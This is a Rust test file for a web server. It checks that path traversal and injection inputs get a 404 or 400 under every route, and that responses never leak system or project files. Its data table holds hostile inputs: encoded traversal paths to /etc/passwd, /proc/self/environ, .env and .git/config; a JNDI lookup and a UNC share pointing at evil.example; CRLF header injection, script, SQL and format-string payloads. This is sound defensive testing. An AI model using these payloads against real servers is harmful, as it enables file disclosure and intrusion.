//! Paths that escape the web root in other software, tried under every route.

use super::{Row, each, expect};
use crate::server::{Server, page_content_path};

/// Routes, and the content type of their 404 response.
const ROUTES: [(&str, &str); 8] = [
    ("", "text/html; charset=utf-8"),
    ("/news", "text/html; charset=utf-8"),
    ("/career", "text/html; charset=utf-8"),
    ("/.well-known", "text/html; charset=utf-8"),
    ("/images", "text/plain; charset=utf-8"),
    ("/downloads", "text/plain; charset=utf-8"),
    ("/assets", "text/plain; charset=utf-8"),
    ("/api", "application/json"),
];

/// Texts that reveal a file of the system, the project or the server.
const SECRETS: [&str; 6] = [
    "root:x:",
    "[package]",
    "SQLite format",
    "STANDFAST_",
    "[core]",
    "src/",
];

/// The expected outcome of a path.
#[derive(Clone, Copy)]
pub enum Outcome {
    /// 404 with the content type of the route.
    Missing,
    /// 400: not a valid request target.
    InvalidTarget,
}
use Outcome::{InvalidTarget, Missing};

/// Paths to append to the route.
pub fn rows() -> Vec<Row<(&'static [u8], Outcome)>> {
    vec![
        (
            "plain parent segments",
            (b"/../../../../etc/passwd", Missing),
        ),
        (
            "parent segments to the project's sources",
            (b"/../Cargo.toml", Missing),
        ),
        (
            "parent segments to the database",
            (b"/../standfast.db", Missing),
        ),
        (
            "parent segments to the environment",
            (b"/../../proc/self/environ", Missing),
        ),
        (
            "a parent segment after a file",
            (b"/brand/../../etc/passwd", Missing),
        ),
        (
            "a current-directory segment",
            (b"/./././etc/passwd", Missing),
        ),
        ("encoded dots", (b"/%2e%2e/%2e%2e/etc/passwd", Missing)),
        (
            "encoded dots in capitals",
            (b"/%2E%2E/%2E%2E/etc/passwd", Missing),
        ),
        (
            "one of two dots encoded",
            (b"/.%2e/.%2e/etc/passwd", Missing),
        ),
        ("encoded slashes", (b"/..%2f..%2fetc%2fpasswd", Missing)),
        (
            "encoded dots and slashes",
            (b"/%2e%2e%2f%2e%2e%2fetc%2fpasswd", Missing),
        ),
        (
            "encoded twice",
            (b"/%252e%252e%252fetc%252fpasswd", Missing),
        ),
        (
            "encoded three times",
            (b"/%25252e%25252e%25252fetc", Missing),
        ),
        (
            "encoded backslashes",
            (b"/..%5c..%5cwindows%5cwin.ini", Missing),
        ),
        ("backslashes", (b"/..\\..\\windows\\win.ini", Missing)),
        (
            "IIS %u encoding",
            (b"/%u002e%u002e%u2215etc%u2215passwd", Missing),
        ),
        (
            "overlong dots of two bytes",
            (b"/%c0%ae%c0%ae/etc/passwd", Missing),
        ),
        (
            "overlong slashes of two bytes",
            (b"/..%c0%af..%c0%afetc", Missing),
        ),
        (
            "overlong dots of three bytes",
            (b"/%e0%80%ae%e0%80%ae/etc/passwd", Missing),
        ),
        (
            "overlong dots of four bytes",
            (b"/%f0%80%80%ae/etc/passwd", Missing),
        ),
        (
            "raw overlong bytes",
            (b"/\xc0\xae\xc0\xae/etc/passwd", InvalidTarget),
        ),
        (
            "full-width dots",
            (b"/%ef%bc%8e%ef%bc%8e/etc/passwd", Missing),
        ),
        (
            "a division slash",
            (b"/..%e2%88%95etc%e2%88%95passwd", Missing),
        ),
        ("a surrogate", (b"/%ed%a0%80", Missing)),
        ("a byte that is not UTF-8", (b"/\xff", InvalidTarget)),
        (
            "an encoded NUL after an extension",
            (b"/etc/passwd%00.webp", Missing),
        ),
        (
            "an encoded NUL before an extension",
            (b"/brand/favicon%00.svg", Missing),
        ),
        ("a NUL", (b"/etc/passwd\0.webp", InvalidTarget)),
        (
            "doubled dots and slashes",
            (b"/....//....//etc/passwd", Missing),
        ),
        ("dots with a parameter", (b"/..;/..;/etc/passwd", Missing)),
        ("an absolute path", (b"//etc/passwd", Missing)),
        ("a drive letter", (b"/C:/windows/win.ini", Missing)),
        ("a file URL", (b"/file:///etc/passwd", Missing)),
        ("a Windows share", (b"/%5c%5cevil.example%5cshare", Missing)),
        ("an NTFS stream", (b"/brand/favicon.svg::$DATA", Missing)),
        ("a Windows short name", (b"/BRAND~1/favicon.svg", Missing)),
        ("a trailing dot", (b"/brand/favicon.svg.", Missing)),
        ("a trailing space", (b"/brand/favicon.svg%20", Missing)),
        ("a precompressed file", (b"/brand/favicon.svg.br", Missing)),
        ("a hidden file", (b"/.env", Missing)),
        ("a Git repository", (b"/.git/config", Missing)),
        (
            "a query instead of a path",
            (b"/x?file=../../etc/passwd", Missing),
        ),
        ("an encoded header", (b"/%0d%0aSet-Cookie:%20a=b", Missing)),
        (
            "an encoded log line",
            (b"/x%0a127.0.0.1%20GET%20/admin", Missing),
        ),
        ("a terminal escape", (b"/%1b%5b2J", Missing)),
        (
            "an encoded script",
            (b"/%3Cscript%3Ealert(1)%3C/script%3E", Missing),
        ),
        ("a script", (b"/<script>alert(1)</script>", InvalidTarget)),
        (
            "a JNDI lookup",
            (b"/${jndi:ldap://evil.example/a}", Missing),
        ),
        ("a lone percent sign", (b"/%", Missing)),
        ("an invalid encoding", (b"/%zz%2", Missing)),
        ("a right-to-left override", (b"/%e2%80%aegvs.exe", Missing)),
        ("an SQL statement", (b"/'%20or%201=1--", Missing)),
        ("a format string", (b"/%25s%25n%25n", Missing)),
    ]
}

#[test]
fn no_path_escapes_the_site_under_any_route() {
    let server = Server::start(&["--demo"]);
    for (route, missing) in ROUTES {
        each(
            &format!("paths under {route}"),
            &rows(),
            |(path, outcome)| {
                let start = format!("GET {route}");
                let end = b" HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n";
                let response = server.raw(&[start.as_bytes(), path, end].concat());
                let status = match outcome {
                    Missing => "HTTP/1.1 404",
                    InvalidTarget => "HTTP/1.1 400",
                };
                expect(&response.get(..12).unwrap_or_default(), &status)?;
                if let Some(secret) = SECRETS.iter().find(|secret| response.contains(**secret)) {
                    return Err(format!("{secret} is in {response}"));
                }
                if matches!(outcome, InvalidTarget) {
                    return Ok(());
                }
                let head = response.split("\r\n\r\n").next().unwrap_or_default();
                let sent = |name: &str| {
                    let mut lines = head.lines();
                    lines.find_map(|line| line.strip_prefix(&format!("{name}: ")))
                };
                expect(&sent("content-type"), &Some(missing))?;
                expect(&sent("x-content-type-options"), &Some("nosniff"))?;
                expect(&sent("location"), &None)?;
                expect(&sent("set-cookie"), &None)?;
                let echo = String::from_utf8_lossy(&path[1..]).into_owned();
                match echo.len() > 4 && response.contains(&echo) {
                    true => Err(format!("the response contains the path: {response}")),
                    false => Ok(()),
                }
            },
        );
    }
}

#[test]
fn no_path_escapes_the_site_as_the_parameter_of_a_call() {
    let server = Server::start(&["--demo"]);
    each("paths as parameters", &rows(), |(path, outcome)| {
        let response = server.get(&page_content_path(path));
        if let Some(secret) = SECRETS
            .iter()
            .find(|secret| response.body.contains(**secret))
        {
            return Err(format!("{secret} is in {}", response.body));
        }
        expect(&response.header("content-type"), &"application/json")?;
        if matches!(outcome, InvalidTarget) || path.starts_with(b"//") {
            return expect(&response.status, &400);
        }
        let content = &response.json()["data"];
        expect(&(response.status, &content["status"]), &(200, &404.into()))?;
        expect(&content["path"].as_str().map(str::as_bytes), &Some(*path))
    });
}

#[test]
fn a_long_path_gets_404_or_431() {
    let server = Server::start(&["--demo"]);
    for (length, status) in [(8_000, "HTTP/1.1 404"), (20_000, "HTTP/1.1 431")] {
        let path = "../".repeat(length / 3);
        let request = format!("GET /{path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n");
        let response = server.raw(request.as_bytes());
        assert_eq!(&response[..12], status, "{length}");
    }
}
